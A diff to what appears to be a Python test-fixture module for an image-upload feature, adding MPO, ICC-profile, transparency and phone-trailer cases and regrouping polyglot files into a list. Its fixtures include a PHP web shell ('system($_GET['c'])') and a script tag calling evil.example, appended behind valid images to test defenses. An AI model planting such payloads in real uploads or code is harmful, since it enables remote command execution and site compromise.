@@ -4,10 +4,12 @@ import io
 import struct
 import zlib
 from collections.abc import Callable
+from pathlib import Path
 
-from PIL import Image, PngImagePlugin
+from PIL import Image, ImageCms, PngImagePlugin
 
 Maker = Callable[[], bytes]
+DATA = Path(__file__).parent / "data"
 
 
 def picture(kind: str = "JPEG", size: tuple[int, int] = (400, 300), mode: str = "RGB", **options: object) -> bytes:
@@ -68,10 +70,44 @@ def broken_middle() -> bytes:
     return bytes(data)
 
 
+def with_second_view() -> bytes:
+    """Return a JPEG as phones with two lenses write it: a second image behind the first, named in its head (MPO)."""
+    out = io.BytesIO()
+    first, second = Image.new("RGB", (400, 300), "red"), Image.new("RGB", (400, 300), "blue")
+    first.save(out, "MPO", save_all=True, append_images=[second])
+    return out.getvalue()
+
+
+SRGB_PROFILE = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
+
+
+def palette_with_hole() -> bytes:
+    """Return a PNG of 256 colors that carries a profile, and whose black is see-through."""
+    return picture("PNG", mode="P", transparency=0, icc_profile=SRGB_PROFILE)
+
+
+def red_by_profile() -> bytes:
+    """Return a PNG whose pixels say blue, with a profile that calls the third channel red."""
+    swapped = SRGB_PROFILE.replace(b"rXYZ", b"----").replace(b"bXYZ", b"rXYZ").replace(b"----", b"bXYZ")
+    out = io.BytesIO()
+    Image.new("RGB", (64, 64), (0, 0, 255)).save(out, "PNG", icc_profile=swapped)
+    return out.getvalue()
+
+
 SCRIPT = b"<script>fetch('//evil.example')</script>"
 PHP = b"<?php system($_GET['c']); ?>"
 ZIP = b"PK\x03\x04" + b"\x00" * 60
 FILM = b"\x00\x00\x00\x18ftypmp42" + b"\x00" * 200
+# Files that are a picture and something else: the picture is used, and nothing of the rest.
+POLYGLOTS: list[tuple[str, str, bytes]] = [
+    ("a JPEG with a web page behind it", "JPEG", SCRIPT),
+    ("a JPEG with PHP behind it", "JPEG", PHP),
+    ("a JPEG with a ZIP behind it", "JPEG", ZIP),
+    ("a PNG with a ZIP behind it", "PNG", ZIP),
+    ("a WebP with a web page behind it", "WEBP", SCRIPT),
+    ("an AVIF with a web page behind it", "AVIF", SCRIPT),
+    ("a photo with a short film behind it", "JPEG", FILM),
+]
 
 # Each: what it is, how it is made, and a part of what the editor reads; None where it is taken.
 UPLOADS: list[tuple[str, Maker, str | None]] = [
@@ -105,15 +141,8 @@ UPLOADS: list[tuple[str, Maker, str | None]] = [
     ("a moving WebP", lambda: moving("WEBP"), "The picture moves"),
     ("a moving PNG", lambda: moving("PNG"), "The picture moves"),
     ("a moving AVIF", lambda: moving("AVIF"), "The picture moves"),
-    ("a JPEG with a web page behind it", lambda: picture() + SCRIPT, "hidden in this file"),
-    ("a JPEG with PHP behind it", lambda: picture() + PHP, "hidden in this file"),
-    ("a JPEG with a ZIP behind it", lambda: picture() + ZIP, "hidden in this file"),
-    ("a PNG with a ZIP behind it", lambda: picture("PNG") + ZIP, "hidden in this file"),
-    ("a WebP with a web page behind it", lambda: picture("WEBP") + SCRIPT, "hidden in this file"),
-    ("an AVIF with a web page behind it", lambda: picture("AVIF") + SCRIPT, "hidden in this file"),
     ("a script in a JPEG's comment", jpeg_with_script_inside, None),
     ("a phone's photo, on its side, with its place", turned_with_place, None),
-    ("a photo with a short film behind it", lambda: picture() + FILM, None),
     ("a photo with a second one behind it", lambda: picture() + picture(), None),
     ("a JPEG in the colors of print", lambda: picture(mode="CMYK"), None),
     ("a gray PNG", lambda: picture("PNG", mode="L"), None),
@@ -123,4 +152,12 @@ UPLOADS: list[tuple[str, Maker, str | None]] = [
     ("a progressive JPEG", lambda: picture(progressive=True), None),
     ("a WebP", lambda: picture("WEBP"), None),
     ("an AVIF", lambda: picture("AVIF"), None),
+    ("a photo with a second view or a depth map", with_second_view, None),
+    ("a Samsung photo with its trailer", (DATA / "samsung-trailer.jpg").read_bytes, None),
+    ("a Motion Photo with its film", (DATA / "motion-photo.jpg").read_bytes, None),
+    ("a photo with a damaged color profile", (DATA / "damaged-icc.jpg").read_bytes, None),
+    ("a gray JPEG with a profile for colors", lambda: picture(mode="L", icc_profile=SRGB_PROFILE), None),
+    ("a PNG with one see-through color and a profile", (DATA / "trns-and-icc.png").read_bytes, None),
+    ("a PNG of 256 colors, one see-through, and a profile", palette_with_hole, None),
+    *((what, lambda kind=kind, rest=rest: picture(kind) + rest, None) for what, kind, rest in POLYGLOTS),
 ]
